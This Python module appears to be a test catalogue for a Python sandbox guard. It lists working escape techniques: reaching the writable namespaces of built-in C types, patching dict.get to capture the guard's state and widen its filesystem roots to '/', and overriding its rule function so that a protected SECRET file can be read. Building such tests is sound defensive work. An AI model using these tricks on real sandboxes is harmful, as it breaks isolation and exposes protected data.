"""Ways to the namespaces of types that are made in C, whose methods everybody calls.

What stands there stands there for the whole process, guarded or not. So the control of these runs
in an interpreter of its own, which has no guard at all. A layer that lets none start holds nothing
of what a process does to itself.
"""

from __future__ import annotations

from guard.technique import FILES, SILENT, Technique

_TAKER = (
    "class X:\n    def take(s, real): s.real = real; return True\n"
    "    __eq__ = __ne__ = __lt__ = __gt__ = __ror__ = take\nx = X()\n"
)
# How the dictionary of a type gets into `x.real`.
_ROUTES = {
    "compared": "kind.__dict__ == x",
    "told-apart": "vars(kind) != x",
    "ordered": "kind.__dict__ < x",
    "joined": "kind.__dict__ | x",
    "proxy-of-keys": "kind.__dict__.keys().mapping == x",
    "proxy-of-items": "kind.__dict__.items().mapping | x",
    "by-the-attribute-of-types": "type.__dict__['__dict__'].__get__(kind) == x",
    "by-inspect": "import inspect\n"
    "getattr(inspect, '_get_dunder_dict_of_class', type.__dict__['__dict__'].__get__)(kind) == x",
    "by-a-generic-alias": "import types\ntypes.GenericAlias(kind, (int,)).__dict__ == x",
    "by-a-weak-proxy": "import weakref\nweakref.proxy(kind).__dict__ == x",
    "state": "x.real = object.__getstate__(kind)",
    "state-of-the-class-above": "x.real = super(type, kind).__getstate__()",
    "state-looked-up": "x.real = object.__getattribute__(kind, '__getstate__')()",
    "state-of-the-namespace": "x.real = object.__dict__['__getstate__'](kind)",
    "state-bound": "x.real = object.__dict__['__getstate__'].__get__(kind)()",
    "state-with-slots": "import copyreg\ncopyreg._slotnames = lambda kind: ['__name__']\n"
    "x.real = object.__getstate__(kind)\nx.real = x.real[0] if type(x.real) is tuple else x.real",
}
_KINDS = {"text": "kind = str\n", "lock": "from _thread import LockType as kind\n"}
_MARK = (
    "\nif type(getattr(x, 'real', None)) is dict: x.real['lab_mark'] = 1\n"
    "found = hasattr(kind, 'lab_mark')\nprint(found)"
)
_STATE = "state"  # since 3.12 only types on the heap hand out theirs


def _technique(name: str, code: str) -> Technique:
    body = _TAKER + code + _MARK
    run = (
        f"import subprocess, sys\nbody, space = {body!r}, {{}}\n"
        "if FREE:\n    command = [sys.executable, '-I', '-c', body]\n"
        "    try: won(b'True' in subprocess.run(command, stdout=subprocess.PIPE).stdout)\n"
        "    except PermissionError: won(1)\n"
        "else:\n    exec(body, space)\n    won(space['found'])"
    )
    return Technique(f"types-{name}", run, SILENT)


# What a dictionary would be good for: every look-up in a table leads past what is put there.
_EXPLOIT = (
    _TAKER + "def change(kind, name, value):\n"
    "    kind.__dict__ == x\n    old = x.real[name]\n    x.real[name] = value\n"
    "    a = type.__dict__['__abstractmethods__']\n    a.__set__(kind, ()); a.__delete__(kind)\n"
    "    return old\n"
    "seen = []\ndef get(s, *more): seen.append(s); return old(s, *more)\n"
    "old = dict.get\nold = change(dict, 'get', get)\n"
    "try: open(SECRET)\nexcept OSError: pass\nchange(dict, 'get', old)\n"
    "states = [v for s in seen for v in list(s.values()) if hasattr(v, 'roots')]\n"
    "for state in states:\n    state.answers = {}\n"
    "    state.roots = dict.fromkeys(state.roots, frozenset({'/'}))\n"
    "won(open(SECRET).read())"
)
# The same of a proxy that the guard's own wrappers hold: what is put there stays there for others.
_DOORS = (
    _TAKER + "import _thread\nmine = lambda *a: None\n"
    "for c in _thread.start_new_thread.__closure__:\n"
    "    if hasattr(c.cell_contents, 'keys'): doors = c.cell_contents\n"
    "doors == x\nx.real['carried'] = mine\nLATER.append(lambda p: doors['carried'] is mine)"
)
# What stands in the place of an original, changed: nothing of the guard goes by it.
_STANDING = {
    "property": (
        "class M(type): pass\nshown = super(M, M).__dict__\n"
        "attempt(lambda: shown.__init__(lambda kind: {}))\n"
    ),
    "way-down": (
        "import types\nkind, found = types.FrameType, []\n"
        "found += [kind.f_back, kind.__dict__['f_back']]\n"
        "attempt(lambda: found.append(object.__getattribute__(kind, 'f_back')))\n"
        "for shown in found: attempt(lambda: shown.__init__(lambda frame: None))\n"
    ),
    "classes": (
        "for kind in object.__subclasses__():\n"
        "    if kind.__name__ in ('__dict__', '__getstate__', 'f_back'):\n"
        "        kind.__get__ = lambda *a: {}\n"
    ),
}
_WIDE = (
    "import democrai_osguard.guard.contexts as c\nfrom democrai_osguard import Rule\n"
    "c._paths = lambda items: [Rule('filesystem', 'read', '/')]\n"
    "AGAIN.append(lambda p: open(p).read())"
)

TYPE_TECHNIQUES = (
    *(
        _technique(f"{name}-of-{kind}", first + code)
        for name, code in _ROUTES.items()
        for kind, first in _KINDS.items()
        if kind == "lock" or not name.startswith(_STATE)
    ),
    Technique("types-methods-of-tables", _EXPLOIT, FILES),
    Technique("types-proxy-of-doors", _DOORS, SILENT),
    *(Technique(f"types-changed-{name}", code + _WIDE, FILES) for name, code in _STANDING.items()),
)
